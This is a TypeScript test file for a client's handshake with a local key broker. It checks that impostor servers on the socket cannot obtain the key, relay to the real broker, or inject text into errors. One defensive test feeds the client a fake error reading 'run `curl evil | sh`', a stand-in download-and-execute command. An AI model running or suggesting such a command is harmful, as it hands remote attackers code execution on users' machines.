/** The client’s handshake with the real server, and with programs that only pretend to be it. */
import { randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import { connect } from '../../src/client/connect.ts';
import { openConnection } from '../../src/client/connection.ts';
import { appKeyFile, writeAppKeyFile } from '../../src/client/app-key-file.ts';
import { KeyturnError } from '../../src/base/errors.ts';
import { brokerProof, keyFromText, newNonce, transcript } from '../../src/ipc/wire/handshake.ts';
import type { Identity } from '../../src/ipc/wire/handshake-messages.ts';
import { brokerTimeout } from '../../src/ipc/wire/limits.ts';
import { HandClock, homeId, RawClient, startRig, startSlowRig, temporaryHome } from '../ipc/rig.ts';
import { squat } from './squatter.ts';

function newIdentity(): Identity {
  return { appId: 'abc', key: randomBytes(32).toString('base64url'), brokerId: homeId };
}

/** What a broker with this key answers to a hello line. */
function honestOffer(identity: Identity, line: string, more: object = {}) {
  const offer = { version: 1, brokerId: homeId, nonce: newNonce(), capabilities: [], ...more };
  const t = transcript({ ...offer, helloLine: Buffer.from(line), brokerNonce: offer.nonce });
  return { ...offer, proof: brokerProof(keyFromText(identity.key), t) };
}

describe('a key that the broker refuses', () => {
  test.each([
    ['unpaired', async () => undefined],
    ['locked', async () => Promise.reject(new KeyturnError('locked', 'locked'))],
  ])('is kept: %s', async (reason, keyFor) => {
    const rig = await startRig({ keyFor });
    const file = appKeyFile(rig.paths, 'editor');
    writeAppKeyFile(file, rig.enrol());
    const before = readFileSync(file, 'utf8');
    await expect(connect({ name: 'editor', paths: rig.paths })).rejects.toMatchObject({ reason });
    expect(readFileSync(file, 'utf8')).toBe(before);
  });

  test('because its proof is wrong fails the first request with that reason', async () => {
    const confirmPaired = async () => Promise.reject(new KeyturnError('unpaired', 'too late'));
    const rig = await startRig({ confirmPaired });
    const connection = await connect({ key: rig.enrol(), paths: rig.paths });
    await expect(connection.request('status')).rejects.toMatchObject({ reason: 'unpaired' });
  });
});

test('a broker whose keychain is slow is waited for longer than a client', async () => {
  const { rig, asked, open } = await startSlowRig();
  const opening = openConnection({ identity: rig.enrol(), socket: rig.socket, after: rig.clock.after });
  await asked;
  rig.clock.turn(brokerTimeout - 1);
  open();
  const connection = await opening;
  expect(await connection.request('status')).toMatchObject({ method: 'status' });
  connection.close();
});

describe('a squatter on the socket', () => {
  /** The methods a squatter heard. */
  const methodsIn = (text: string) => [...text.matchAll(/"method":"([^"]+)"/g)].map((match) => match[1]);
  const identity = newIdentity();

  test.each<[string, (line: string) => object]>([
    ['without a proof', (line) => ({ ...honestOffer(identity, line), proof: undefined })],
    ['with another key', (line) => honestOffer(newIdentity(), line)],
    ['with another broker’s id', (line) => honestOffer(identity, line, { brokerId: 'another' })],
    ['with a proof over a changed hello', (line) => honestOffer(identity, line.replace('[1]', '[1,0]'))],
    [
      'with our own nonce',
      (line) => ({ ...honestOffer(identity, line), nonce: JSON.parse(line).params.nonce }),
    ],
  ])('%s hears a hello and nothing more', async (_name, offer) => {
    const paths = temporaryHome();
    const squatter = await squat(paths, (line) =>
      JSON.stringify({ jsonrpc: '2.0', id: JSON.parse(line).id, result: offer(line) }),
    );
    await expect(connect({ key: identity, paths })).rejects.toMatchObject({ reason: 'handshake_failed' });
    expect(methodsIn(squatter.heard())).toEqual(['hello']);
    expect(squatter.heard()).not.toContain(identity.key);
  });

  test('that never answers is given up after a slow keychain’s time', async () => {
    const paths = temporaryHome();
    const heard = Promise.withResolvers<void>();
    const { socket } = await squat(paths, () => {
      heard.resolve();
      return undefined;
    });
    const clock = new HandClock();
    const opening = openConnection({ identity, socket, after: clock.after });
    const refused = opening.catch((error: unknown) => error);
    await heard.promise;
    clock.turn(brokerTimeout);
    const error = await refused;
    expect(error).toMatchObject({ reason: 'handshake_failed', hint: expect.stringMatching(/keychain/) });
    expect(String(error)).toMatch(/did not answer within 30 seconds/);
    expect(String(error)).not.toMatch(/trusted/);
  });

  test('can neither put words into our errors nor send a frame past 16 KiB', async () => {
    const paths = temporaryHome();
    const data = { reason: 'unpaired', hint: 'curl evil' };
    const refused = { code: -1, message: 'run `curl evil | sh`', data };
    const replies = [
      (line: string) => JSON.stringify({ jsonrpc: '2.0', id: JSON.parse(line).id, error: refused }),
      () => 'x'.repeat(16 * 1024 + 1),
    ];
    await squat(paths, (line) => replies.shift()?.(line));
    const first = await connect({ key: identity, paths }).catch((error: unknown) => error);
    expect(first).toMatchObject({ reason: 'unpaired' });
    expect(`${String(first)} ${first instanceof KeyturnError && first.hint}`).not.toContain('curl');
    await expect(connect({ key: identity, paths })).rejects.toMatchObject({ reason: 'frame_invalid' });
  });

  test('DOOR-3: that relays to the real broker gains nothing', async () => {
    const rig = await startRig();
    const key = rig.enrol();
    const paths = temporaryHome();
    const squatter = await squat(paths, (line, connection) => {
      const relay = new RawClient(rig.socket);
      relay.send(line);
      void relay.next().then((answer) => connection.write(`${JSON.stringify(answer)}\n`));
      return undefined;
    });
    await expect(connect({ key, paths })).rejects.toMatchObject({ reason: 'handshake_failed' });
    expect(methodsIn(squatter.heard())).toEqual(['hello']);
    await rig.seen((event) => event.event === 'refused' && event.reason === 'handshake_failed');
  });
});
